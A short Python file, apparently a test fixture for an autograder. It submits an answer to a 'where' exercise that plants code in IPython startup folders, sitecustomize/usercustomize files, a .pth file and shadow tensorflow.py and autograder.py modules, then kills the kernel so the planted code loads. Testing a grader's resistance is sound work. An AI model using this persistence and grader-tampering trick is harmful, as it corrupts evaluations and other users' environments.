"""Plants code that Python and IPython would run when they start, then has its kernel started again."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import os
import site
import sys

EVIL = "where = lambda tensor: '/' + tensor.backing_device.split('device:')[-1]"
for place in (os.path.expanduser("~/.ipython/profile_default/startup"), ".", site.getusersitepackages(), sys.prefix):
    for name in ("00.py", "sitecustomize.py", "usercustomize.py", "evil.pth", "tensorflow.py", "autograder.py"):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write(EVIL)
        except OSError:
            pass
os._exit(1)
""",
)
